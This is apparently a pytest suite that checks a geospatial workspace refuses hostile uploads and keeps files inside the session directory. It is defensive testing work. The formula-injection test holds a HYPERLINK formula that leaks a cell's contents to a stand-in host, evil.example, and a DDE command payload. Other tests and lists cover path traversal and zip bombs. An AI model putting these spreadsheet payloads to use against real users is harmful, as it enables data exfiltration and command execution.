"""Every file in the hostile corpus is refused with its message, and nothing is written outside the session.

The corpus and expected messages live in tests/hostile_corpus.py (small files committed in tests/hostile/).
Each case runs in a sandbox: a sentinel directory holding the session root and the working directory, so
a traversal ('../evil.txt') or a stray write would show up as a change in the sentinel's file tree.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from geo.workspace import SessionWorkspace
from tests.hostile_corpus import CASES, HOSTILE_DIR, MARKERS, handled_as_expected, run_case, write_committed

_DATA: dict[str, bytes] = {}


def case_data(case) -> bytes:
    if case.filename not in _DATA:  # big generated files are built once per test session
        _DATA[case.filename] = case.data()
    return _DATA[case.filename]


def snapshot(top: Path) -> dict[str, tuple]:
    """Every path under ``top`` (symlinks not followed) with its type, size and modification time."""
    tree = {}
    for dirpath, dirnames, filenames in os.walk(top, followlinks=False):
        for name in dirnames + filenames:
            path = os.path.join(dirpath, name)
            info = os.lstat(path)
            tree[os.path.relpath(path, top)] = (info.st_mode, info.st_size, info.st_mtime_ns)
    return tree


@pytest.fixture()
def sandbox(tmp_path, monkeypatch):
    sentinel = tmp_path / "sentinel"
    (sentinel / "cwd").mkdir(parents=True)
    (sentinel / "precious.txt").write_text("must survive")
    monkeypatch.chdir(sentinel / "cwd")
    for marker in MARKERS:
        if os.path.lexists(marker):
            os.unlink(marker)
    ws = SessionWorkspace(sentinel / "sessions")
    yield sentinel, ws
    ws.close()


@pytest.mark.parametrize("case", CASES, ids=[c.filename for c in CASES])
def test_hostile_file_is_refused_with_its_message_and_nothing_escapes(sandbox, case):
    sentinel, ws = sandbox
    data = case_data(case)
    before = snapshot(sentinel)
    outcome = run_case(case, ws, data)
    after = snapshot(sentinel)

    assert handled_as_expected(case, outcome), f"{case.filename}: got {type(outcome.error).__name__}: {outcome.message}"
    assert case.message in outcome.message and outcome.message.startswith(case.filename)
    assert "\n" not in outcome.message
    changed = {p for p in before.keys() | after.keys() if before.get(p) != after.get(p)}
    outside = sorted(p for p in changed if not ws.contains(sentinel / p))
    assert outside == [], f"{case.filename} changed files outside the session directory: {outside}"
    if case.stage == "gate":
        assert changed == set(), f"{case.filename} was refused at the gate but wrote {sorted(changed)}"
    for marker in MARKERS:
        assert not os.path.lexists(marker), f"{case.filename} created {marker}"
    assert (sentinel / "precious.txt").read_text() == "must survive"


def test_formula_cells_are_kept_as_text_and_flagged(sandbox):
    _, ws = sandbox
    case = next(c for c in CASES if c.filename == "formula_injection.csv")
    frame = run_case(case, ws).result
    assert frame.loc[1, "site_name"] == '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert frame.loc[2, "notes"] == "+cmd|' /C calc'!A0"
    assert frame.loc[3, "notes"] == "=1+2" and frame.loc[4, "site_name"] == "\tTab start"
    assert frame.loc[2, "jobs"] == "-12"  # a plain negative number is data, not a formula
    assert frame.attrs["formula_cells"] == [
        (3, "site_name"), (4, "notes"), (5, "notes"), (5, "site_name"), (6, "notes"), (6, "site_name")]


def _case(filename):
    return next(c for c in CASES if c.filename == filename)


def test_decimal_commas_are_read_as_decimals_and_said_so(sandbox):
    _, ws = sandbox
    outcome = run_case(_case("decimal_commas.csv"), ws)
    frame = outcome.result
    assert frame["latitude"].tolist() == ["51.88", "51.8793"] and frame["longitude"].tolist() == ["-0.42", "-0.4234"]
    assert frame["jobs"].tolist() == ["120", "1250"]  # '1.250': the point separates thousands in such a file
    assert frame["name"].tolist() == ["Hub A", "Hub B"]
    assert "columns 'jobs', 'latitude', 'longitude'" in outcome.message


def test_shapefile_in_a_dotdot_folder_is_read_and_named(sandbox):
    """'..sites' is a folder name, not a traversal: the shapefile is read and the user told which one it was."""
    sentinel, ws = sandbox
    outcome = run_case(_case("dotdot_folder.zip"), ws)
    assert not outcome.refused and len(outcome.result) == 3 and outcome.result.crs.to_epsg() == 27700
    stored = sorted(p.name for p in ws.path.rglob("*") if p.is_file())
    assert stored == ["layer.cpg", "layer.dbf", "layer.prj", "layer.shp", "layer.shx"]  # never the member's own name
    assert not any(".." in p.name for p in sentinel.rglob("*"))


def test_committed_corpus_matches_its_generator(tmp_path):
    """tests/hostile/ is exactly what tests/hostile_corpus.py builds (run it to regenerate)."""
    written = write_committed(tmp_path)
    assert sorted(p.name for p in written) == sorted(p.name for p in HOSTILE_DIR.iterdir() if p.name != "README.md")
    for path in written:
        assert path.read_bytes() == (HOSTILE_DIR / path.name).read_bytes(), path.name


def test_corpus_covers_the_issue_list():
    names = {c.name for c in CASES}
    assert {"zip_bomb", "nested_zip_bomb", "traversal_dotdot", "traversal_absolute", "symlink_member",
            "truncated_shapefile", "huge_polygon", "formula_injection", "object_tag", "binary_not_text",
            "png_renamed", "bng_declared_lonlat", "lonlat_assumed_bng", "nan_point", "mixed_encoding",
            "decimal_commas", "mixed_decimals", "many_keys", "dotdot_folder"} <= names
